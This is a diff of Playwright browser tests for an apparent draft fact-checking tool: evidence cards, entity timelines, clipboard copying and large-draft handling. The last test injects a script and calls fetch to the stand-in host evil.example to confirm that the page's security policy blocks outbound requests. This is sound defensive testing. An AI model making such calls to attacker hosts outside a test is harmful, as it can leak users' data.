@@ -154,7 +154,7 @@ def test_hovering_a_figure_shows_its_evidence(tab: Tab) -> None:
     assert re.search(r"a\.md:6:\d+", seen)
     tab.at.hover("h1")
     tab.at.wait_for_selector("#card", state="hidden")
-    tab.at.wait_for_function("!document.querySelector('.lit')")
+    tab.at.wait_for_selector(".lit", state="detached")
 
 
 def test_evidence_that_is_out_of_sight_comes_on_a_card(browser: Any, page: Served) -> None:
@@ -205,14 +205,14 @@ def test_all_of_it_works_by_keyboard(tab: Tab) -> None:
 
 def test_an_entity_leads_to_its_timeline(tab: Tab) -> None:
     tab.paste(CLASH)
-    tab.at.click("#who + ul a:text('青禾科技')")
+    tab.at.click("#who + ul a:has-text('青禾科技')")
     tab.at.wait_for_selector("#timeline[open] svg")
     told = tab.at.text_content("#timeline-body")
     assert "2100人" in told
     assert "3900人" in told
     tab.at.click("#timeline form button")
     with tab.context.expect_page() as opened:
-        tab.at.click("#who + ul a:text('青禾科技')", modifiers=["Control"])
+        tab.at.click("#who + ul a:has-text('青禾科技')", modifiers=["Control"])
     opened.value.wait_for_selector("main svg")
     assert opened.value.title() == "青禾科技"
 
@@ -229,7 +229,7 @@ def test_the_suggested_wording_is_copied(browser: Any, page: Served) -> None:
 
 def test_a_wording_that_cannot_be_copied_is_selected(tab: Tab) -> None:
     tab.paste(CLASH)
-    tab.at.evaluate("navigator.clipboard.writeText = () => Promise.reject(new Error('no'))")
+    tab.at.evaluate("() => { navigator.clipboard.writeText = () => Promise.reject(new Error('no')) }")
     tab.at.locator(".note button.copy").first.click()
     tab.at.wait_for_selector("button.copy:text('已选中')")
     assert (
@@ -247,18 +247,16 @@ def test_an_older_version_can_be_left_out(tab: Tab) -> None:
 
 
 def test_a_large_draft_is_marked(tab: Tab) -> None:
-    """300 kB of text in which nothing is told twice."""
-    street = "青禾路{n}号的居民老{c}说，{c}家门前的梧桐是第{n}年开花，{n}月{d}日那天树下坐了{n}个人，卖掉{m}公斤莲子。\n\n"
-    names = "赵钱孙李周吴郑王冯陈褚卫蒋沈韩杨朱秦尤许"
-    lines = (
-        street.format(n=at % 11 + 1, d=at % 27 + 1, m=at * 3, c=names[at % 20] + names[at // 20 % 20])
-        for at in range(1, 2001)
+    """300 kB, with a figure in every other sentence or so."""
+    said = (
+        f"第{at}户人家的院子里种着莲子，老人说今年收了{at % 37 + 2}公斤，比往年都好。门前的河水涨了又退，孩子们放学以后沿着河岸跑，"
+        "卖豆腐的吆喝声从桥那头传过来，梧桐叶子落了一地，谁也不急着扫。\n\n"
+        for at in range(1, 3000)
     )
-    text = CLASH + "".join(lines)
-    text = text.encode()[:300_000].decode(errors="ignore")
+    text = (CLASH + "".join(said)).encode()[:300_000].decode(errors="ignore")
     tab.paste(text)
     assert tab.verdicts()["3900人"] == "error"
-    assert len(tab.verdicts()) > 1000
+    assert len(tab.at.locator("#result a.fig").all()) > 800
 
 
 def test_a_hostile_draft_is_text(tab: Tab) -> None:
@@ -297,7 +295,7 @@ def test_the_policy_stops_what_would_get_in(browser: Any, page: Served) -> None:
           document.body.append(script);
         }"""
     )
-    tab.at.click("#result form button")
+    tab.at.eval_on_selector("#result form button", "button => button.click()")
     sent = tab.at.evaluate("fetch('http://evil.example/').then(() => true, () => false)")
     tab.at.wait_for_timeout(300)
     assert sent is False
